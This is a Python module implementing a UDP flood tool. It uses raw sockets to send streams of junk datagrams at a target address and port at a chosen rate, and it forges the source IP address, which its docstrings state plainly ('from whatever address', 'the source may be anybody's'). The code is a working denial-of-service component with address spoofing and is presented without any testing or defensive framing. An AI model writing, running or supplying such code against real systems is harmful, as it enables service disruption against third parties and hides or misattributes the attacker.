"""Junk by the hundred, from whatever address."""

import socket
import threading

import packets


class Flood:
    """Sends datagrams to an address and port at a rate, until it is left; each has what `junk`
    makes, and `each` go at once. The source may be anybody's."""

    def __init__(self, sender, source, destination, junk, per_second, each=10):
        self.sender, self.source, self.destination = sender, source, destination
        self.junk, self.per_second, self.each = junk, per_second, each
        self.sent, self._end = 0, threading.Event()

    def _socket(self):
        return self.sender.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, count):
        with self._socket() as raw:
            self._send(raw, count)

    def _send(self, raw, count):
        (source, sport), (destination, dport) = self.source, self.destination
        for _ in range(count):
            datagram = packets.udp(source, sport, destination, dport, self.junk())
            raw.sendto(packets.ipv4(source, destination, packets.UDP, datagram), (destination, 0))
        self.sent += count

    def _run(self):
        with self._socket() as raw:
            while not self._end.wait(self.each / self.per_second):
                self._send(raw, self.each)

    def __enter__(self):
        self._thread = threading.Thread(target=self._run)
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._end.set()
        self._thread.join()
